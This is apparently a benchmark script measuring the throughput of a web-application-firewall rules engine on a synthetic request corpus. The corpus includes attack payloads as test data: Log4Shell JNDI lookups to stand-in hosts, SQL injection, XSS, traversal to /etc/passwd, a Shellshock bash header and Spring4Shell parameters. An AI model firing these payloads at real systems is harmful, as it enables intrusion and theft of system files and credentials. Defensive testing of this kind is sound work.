/**
 * Engine throughput: requests per second through a zone that runs 100 custom rules in
 * `http_request_firewall_custom` and deploys the vendor managed ruleset with an `execute`
 * rule (with overrides) in `http_request_firewall_managed`, on a mixed corpus of 1,000
 * generated requests (pages, assets, API calls with JSON, form posts, multipart uploads;
 * about 4% from known scanners and 10% with attack payloads: Log4Shell, SQLi, XSS,
 * traversal, Shellshock, …).
 *
 *   node --import tsx test/bench/engine.bench.ts
 *
 * Baseline, in the same run: the same compiled filters called directly, in the same order,
 * stopping at the first match of a terminating rule — what is left when the engine's
 * bookkeeping (overrides, skip state, scores, trace entries, logs) is taken away. A second
 * configuration adds the OWASP-based ruleset (the slot's current rules) after the vendor
 * one. Field values are prepared once; only evaluation is timed.
 */
import { compileExpression, prepareFields } from '../../server/src/language/index';
import type { CompiledFilter, FieldValues } from '../../server/src/language/evaluate';
import { defaultCatalog } from '../../server/src/managed/catalog';
import { OWASP_RULESET_ID, VENDOR_RULESET_ID } from '../../server/src/rulesets/managedIds';
import { rulesetVersion } from '../../server/src/rulesets/catalog';
import { requestFields } from '../../server/src/requests/fields';
import type { SampleRequest } from '../../server/src/requests/types';
import { compileZone, resolveOverrides, type ZoneConfig } from '../../server/src/rulesets/engine';
import type { Overrides, Rule } from '../../server/src/rulesets/model';
import { medianNs, row } from './measure';

// --- A deterministic corpus -------------------------------------------------------------

let seed = 0x2545f491;
function rand(): number {
  seed ^= seed << 13;
  seed ^= seed >>> 17;
  seed ^= seed << 5;
  return (seed >>> 0) / 2 ** 32;
}
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)];

const HOSTS = ['example.com', 'www.example.com', 'api.example.com', 'shop.example.org'];
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'curl/8.5.0',
  'python-requests/2.31',
];
/** Known scanners, for a few requests. */
const SCANNER_UAS = ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.0 zgrab/0.x'];
const PAGES = ['/', '/about', '/blog/2024/05/hello-world', '/products/42', '/search', '/cart', '/wp-login.php', '/account/settings', '/static/app.3f9a.js', '/img/logo.png'];
const ATTACKS: readonly ((r: { path: string; query: string; headers: [string, string][]; body?: string }) => void)[] = [
  (r) => void (r.query = 'q=${jndi:ldap://198.51.100.9/a}'),
  (r) => r.headers.push(['X-Api-Version', '${jndi:ldap://evil.example/x}']),
  (r) => void (r.query = "id=1' or '1'='1"),
  (r) => void (r.query = 'id=1 union select username,password from users--'),
  (r) => void (r.query = 'q=<script>alert(1)</script>'),
  (r) => void (r.path = '/static/../../../../etc/passwd'),
  (r) => r.headers.push(['User-Agent', '() { :; }; /bin/bash -c "cat /etc/passwd"']),
  (r) => void (r.query = 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'),
  (r) => void (r.path = '/.env'),
  (r) => void (r.path = '/xmlrpc.php'),
];

function sample(i: number): SampleRequest {
  const host = pick(HOSTS);
  const r: { method: string; path: string; query: string; headers: [string, string][]; body?: string } = { method: 'GET', path: pick(PAGES), query: '', headers: [] };
  const kind = rand();
  r.headers.push(['Host', host], ['User-Agent', rand() < 0.04 ? pick(SCANNER_UAS) : pick(UAS)], ['Accept', '*/*'], ['Accept-Language', 'en-GB,en;q=0.9']);
  if (rand() < 0.5) r.headers.push(['Cookie', `session=${(i * 2654435761) >>> 0}; theme=dark; consent=yes`]);
  if (kind < 0.35) {
    if (rand() < 0.5) r.query = `page=${i % 7}&sort=${pick(['asc', 'desc'])}&utm_source=${pick(['news', 'ads', 'mail'])}`;
  } else if (kind < 0.55) {
    r.method = pick(['POST', 'PUT', 'PATCH']);
    r.path = `/api/v1/${pick(['items', 'orders', 'users'])}/${i}`;
    r.headers.push(['Content-Type', 'application/json'], ['Authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.e30.x']);
    r.body = JSON.stringify({ id: i, name: `item ${i}`, tags: ['a', 'b'], price: i * 1.5, note: 'x'.repeat(i % 200) });
  } else if (kind < 0.7) {
    r.method = 'POST';
    r.path = pick(['/login', '/contact', '/comment']);
    r.headers.push(['Content-Type', 'application/x-www-form-urlencoded']);
    r.body = `user=user${i}&password=p%40ss${i}&remember=on&message=${'hello+world+'.repeat(i % 20)}`;
  } else if (kind < 0.78) {
    r.method = 'POST';
    r.path = '/upload';
    const b = `----b${i}`;
    r.headers.push(['Content-Type', `multipart/form-data; boundary=${b}`]);
    r.body = `--${b}\r\nContent-Disposition: form-data; name="title"\r\n\r\nholiday\r\n--${b}\r\nContent-Disposition: form-data; name="file"; filename="p${i}.jpg"\r\nContent-Type: image/jpeg\r\n\r\n${'\xff\xd8\xff\xe0'.repeat(64)}\r\n--${b}--\r\n`;
  } else if (kind < 0.9) {
    r.path = pick(PAGES);
  } else {
    pick(ATTACKS)(r);
  }
  const url = `https://${host}${r.path}${r.query ? `?${r.query}` : ''}`;
  return { method: r.method, url, httpVersion: 'HTTP/1.1', headers: r.headers, body: r.body, meta: { 'ip.src': `198.51.100.${i % 250}`, 'ip.src.country': pick(['GB', 'US', 'DE', 'FR', 'CN', 'BR']) } };
}

function corpus(n: number): FieldValues[] {
  const out: FieldValues[] = [];
  for (let i = 0; i < n; i++) {
    const f = requestFields(sample(i));
    if (f.problems.length > 0) throw new Error(`request ${i}: ${f.problems.join('; ')}`);
    const p = prepareFields(f.fields);
    if (p.errors.length > 0) throw new Error(`request ${i}: ${p.errors.map((e) => e.message).join('; ')}`);
    out.push(p.values);
  }
  return out;
}

// --- 100 custom rules of mixed shapes ---------------------------------------------------

function customRules(): Rule[] {
  const rules: Rule[] = [];
  const shapes: ((i: number) => string)[] = [
    (i) => `http.request.uri.path eq "/never/${i}"`,
    (i) => `starts_with(http.request.uri.path, "/internal/${i}/")`,
    (i) => `ip.src in {203.0.113.${i % 250}/32 192.0.2.0/28}`,
    (i) => `http.user_agent matches "(?i)badbot-${i}[0-9]*"`,
    (i) => `any(http.request.headers["x-custom-${i}"][*] contains "evil")`,
    (i) => `ip.src.country in {"KP" "IR"} and http.request.method eq "POST" and http.request.uri.path contains "/admin${i}"`,
    (i) => `http.request.uri.query contains "debug=${i}" and not ssl`,
    (i) => `lower(http.host) eq "legacy${i}.example.com"`,
    (i) => `http.cookie contains "tracking${i}=" and len(http.cookie) gt 4000`,
    (i) => `any(http.request.uri.args.names[*] eq "cmd${i}")`,
  ];
  for (let i = 0; i < 100; i++) {
    // Mostly log (every rule runs for every request); every tenth blocks.
    rules.push({ id: `c${i.toString(16).padStart(31, '0')}`, ref: `custom-${i}`, description: `custom rule ${i}`, expression: shapes[i % shapes.length](i), action: i % 10 === 9 ? 'block' : 'log' });
  }
  return rules;
}

const VENDOR_OVERRIDES: Overrides = { categories: [{ category: 'wordpress', action: 'managed_challenge' }], rules: [] };

function zone(withOwasp: boolean): ZoneConfig {
  const managedRules: Rule[] = [{ ref: 'deploy-vendor', expression: 'true', action: 'execute', action_parameters: { id: VENDOR_RULESET_ID, overrides: VENDOR_OVERRIDES } }];
  if (withOwasp) managedRules.push({ ref: 'deploy-owasp', expression: 'true', action: 'execute', action_parameters: { id: OWASP_RULESET_ID } });
  return {
    catalog: defaultCatalog,
    entryPoints: {
      http_request_firewall_custom: { id: 'f'.repeat(32), phase: 'http_request_firewall_custom', rules: customRules() },
      http_request_firewall_managed: { id: 'e'.repeat(32), phase: 'http_request_firewall_managed', rules: managedRules },
    },
  };
}

/** The baseline: the same filters, same order, stop at the first terminating match. */
function baseline(withOwasp: boolean): (f: FieldValues) => boolean {
  const steps: { filter: CompiledFilter; stops: boolean }[] = [];
  const add = (r: Rule, action: string | undefined, allowManaged: boolean, phase: 'http_request_firewall_custom' | 'http_request_firewall_managed') => {
    const c = compileExpression(r.expression!, { allowManaged, phase });
    if (!c.filter) throw new Error(`${r.ref}: does not compile`);
    steps.push({ filter: c.filter, stops: action === 'block' || action === 'managed_challenge' || action === 'challenge' || action === 'js_challenge' });
  };
  for (const r of customRules()) add(r, r.action, false, 'http_request_firewall_custom');
  const ids = withOwasp ? [VENDOR_RULESET_ID, OWASP_RULESET_ID] : [VENDOR_RULESET_ID];
  for (const id of ids) {
    const rs = defaultCatalog.rulesets.find((r) => r.id === id)!;
    for (const r of rulesetVersion(rs)!.rules) {
      const eff = resolveOverrides(r, id === VENDOR_RULESET_ID ? VENDOR_OVERRIDES : undefined);
      if (!eff.enabled || r.id === rs.anomalyRuleId) continue;
      add(r, eff.action, true, 'http_request_firewall_managed');
    }
  }
  return (f) => {
    for (let i = 0; i < steps.length; i++) if (steps[i].filter.matches(f) && steps[i].stops) return true;
    return false;
  };
}

function main(): void {
  const N = 1000;
  const requests = corpus(N);
  const vendorRules = rulesetVersion(defaultCatalog.rulesets.find((r) => r.id === VENDOR_RULESET_ID)!)!.rules.length;
  const owaspRules = rulesetVersion(defaultCatalog.rulesets.find((r) => r.id === OWASP_RULESET_ID)!)!.rules.length;
  console.log(`node ${process.version}, ${process.platform}-${process.arch}; ${N} requests; 100 custom rules + vendor ruleset (${vendorRules} rules) via execute`);

  const widths = [56, 8, 11, 16];
  console.log(row(['configuration', 'req/s', 'µs/request', 'vs filters alone'], widths));
  for (const withOwasp of [false, true]) {
    const label = withOwasp ? `  + OWASP-based slot (${owaspRules} rules)` : 'vendor + 100 custom';
    const t0 = process.hrtime.bigint();
    const z = compileZone(zone(withOwasp));
    const compileMs = Number(process.hrtime.bigint() - t0) / 1e6;
    if (z.problems.some((p) => p.severity === 'error')) throw new Error(z.problems.map((p) => p.message).join('\n'));
    const base = baseline(withOwasp);

    // Sanity: both say "acted on" for the same requests when no scoring is involved.
    let acted = 0;
    let disagree = 0;
    const by = new Map<string, number>();
    for (const f of requests) {
      const d = z.evaluate(f).decision;
      const e = d.action !== 'allow-through';
      if (e) {
        acted++;
        by.set(d.ref ?? '?', (by.get(d.ref ?? '?') ?? 0) + 1);
      }
      if (!withOwasp && e !== base(f)) disagree++;
    }
    if (disagree > 0) throw new Error(`engine and baseline disagree on ${disagree} requests`);

    let sink = 0;
    const engineNs = medianNs(() => {
      for (let i = 0; i < N; i++) sink += z.evaluate(requests[i]).trace.length;
    }) / N;
    const baseNs = medianNs(() => {
      for (let i = 0; i < N; i++) if (base(requests[i])) sink++;
    }) / N;
    if (sink < 0) console.log(sink);
    console.log(row([`${label}: engine`, (1e9 / engineNs).toFixed(0), (engineNs / 1000).toFixed(1), `${(engineNs / baseNs).toFixed(2)}×`], widths));
    console.log(row([`${label}: compiled filters alone`, (1e9 / baseNs).toFixed(0), (baseNs / 1000).toFixed(1), '1.00×'], widths));
    const top = [...by].sort((a, b) => b[1] - a[1]).slice(0, 4).map(([r, c]) => `${r} ${c}`).join(', ');
    console.log(`  (${acted} of ${N} requests acted on — most by ${top}; zone compiled in ${compileMs.toFixed(0)} ms, cached compiles reused after)`);
  }
}

main();
